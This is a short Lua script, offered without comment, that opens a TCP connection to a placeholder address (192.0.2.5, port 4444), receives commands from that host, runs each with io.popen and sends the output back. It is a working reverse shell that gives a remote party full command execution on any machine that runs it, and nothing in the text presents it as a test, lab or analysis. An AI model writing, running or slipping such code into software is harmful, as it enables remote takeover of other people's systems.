local socket = require("socket")
local c = socket.tcp()
c:connect("192.0.2.5", 4444)
while true do
  local cmd = c:receive()
  local f = io.popen(cmd, "r")
  c:send(f:read("*a"))
end
